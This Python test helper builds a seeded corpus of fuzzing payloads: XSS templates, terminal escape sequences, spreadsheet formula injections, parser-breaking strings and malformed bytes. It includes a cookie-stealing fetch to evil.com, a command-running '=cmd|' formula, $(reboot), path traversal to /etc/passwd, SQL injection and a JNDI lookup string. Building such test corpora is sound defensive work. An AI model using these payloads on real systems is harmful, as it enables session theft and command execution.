# SPDX-License-Identifier: MIT
"""Payloads that want to be more than bytes: to a page, a terminal, a spreadsheet, a parser."""
import random
import re
import unicodedata

MARKUP = ["<script>{}</script>", "<img src=x onerror={}>", "<svg onload={}>", "<svg><script>{}",
          "\"><script>{}</script>", "'-{}-'", "\" autofocus onfocus={} x=\"", "javascript:{}",
          "<iframe srcdoc='<script>{}</script>'>", "<body onload={}>",
          "<a href=javascript:{}>x</a>",
          "<math><mtext></form><form><mglyph><style></math><img src onerror={}>",
          "<details open ontoggle={}>", "<style>@import '{}';</style>",
          "</textarea><script>{}</script>",
          "<noscript><p title=\"</noscript><img src=x onerror={}>\">", "{{{{{}}}}}", "${{{}}}",
          "<!--<img src=\"--><img src=x onerror={}>", "]]><script>{}</script>",
          "</script><script>{}",
          "<input onfocus={} autofocus>", "<x style=\"background:url({})\">",
          "\\u003cscript\\u003e{}"]
CALLS = ["alert(1)", "fetch('//evil.com/'+document.cookie)", "location='//evil.com'", "top.x=1"]
TERMINAL = ["\x1b]0;owned\x07", "\x1b[2J\x1b[H", "\x1b[31mred", "\x1bP$q\x1b\\", "\x9b31m",
            "\x1b]8;;http://evil.com\x07x",
            "\x1b[6n", "\x1b]52;c;ZXZpbA==\x07", "\r\x1b[Kdgram: all is well", "a\bb", "\x07" * 9,
            "\x0e\x0f",
            "\u202egpj.exe", "\u2066x\u2069", "\u200b\u200d\ufeff", "\u2028\u2029", "\ufff9x\ufffb",
            "e\u0301" * 40, "\U000e0041\U000e0042", "\u0085line", "a\tb\vc\fd"]
SHEETS = ["=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1",
          "=HYPERLINK(\"http://e\")",
          "a,b\nc\"d", "\"\"\"", "'=1", ";=1", "=1+1\";x"]
PARSERS = ["{\"event\":\"rx\"}", "\"}\n{\"v\":1,\"event\":\"tx\"}", "\\", "\\\"", "\\u0000", "\n",
           "\r\n\r\n", "\0",
           "%n%s%x", "../../etc/passwd", "'; DROP TABLE log; --", "$(reboot)", "`reboot`",
           "${jndi:ldap://x}",
           "{{rx[0:99999]}}", "NaN", "-0", "1e400", "null", "[" * 500,
           "GET / HTTP/1.1\r\nHost: x\r\n\r\n"]
BYTES = [b"", bytes(range(256)), b"\xff" * 40, b"\xc0\xaf", b"\xed\xa0\x80", b"\xf4\x90\x80\x80",
         b"\xe2\x82",
         b"\xc3", b"\x80", b"\xf8\x88\x80\x80\x80", b"<\x00script>", "网络<b>".encode("gbk"),
         b"\xfe\xff<\x00",
         b"x" * 3000, b"\x1b" * 300, b"\n" * 300, b"\0" * 512]


def payloads(count=500):
    """So many, the same each time, no two the same."""
    known = [shape.format(call).encode() for shape in MARKUP for call in CALLS]
    known += [text.encode() for text in TERMINAL + SHEETS + PARSERS] + BYTES
    found = dict.fromkeys(known)
    pieces = list(found)
    choose = random.Random(7)
    while len(found) < count:
        kind = choose.random()
        one = b"".join(choose.choice(pieces)[:80] for _ in range(choose.randint(2, 4)))
        if kind < 0.3:
            one = choose.randbytes(choose.randint(1, 64))
        elif kind < 0.5:
            at = choose.randrange(len(one) + 1)
            one = one[:at] + choose.randbytes(1) + one[at:]
        found[one] = None
    return list(found)[:count]


ESCAPED = re.compile(rb"\\(?:x([0-9a-fA-F]{2})|u\{([0-9a-fA-F]+)\}|(.))", re.DOTALL)
SIMPLE = {b"n": b"\n", b"r": b"\r", b"t": b"\t", b"0": b"\0", b"\\": b"\\"}
SEEN = "\t\u0600\u06dd\u070f\u08e2"  # a tab, and signs of category Cf that have a shape


def read_back(line):
    """The bytes of an escaped line."""
    def one(found):
        code, point, letter = found.groups()
        if code:
            return bytes([int(code, 16)])
        return chr(int(point, 16)).encode() if point else SIMPLE[letter]
    return ESCAPED.sub(one, line)


def is_harmless(text):
    """Nothing in it but a tab moves a cursor, turns a direction or is not to be seen."""
    return all(c in SEEN or unicodedata.category(c) not in ("Cc", "Cf", "Cs", "Zl", "Zp")
               for c in text)
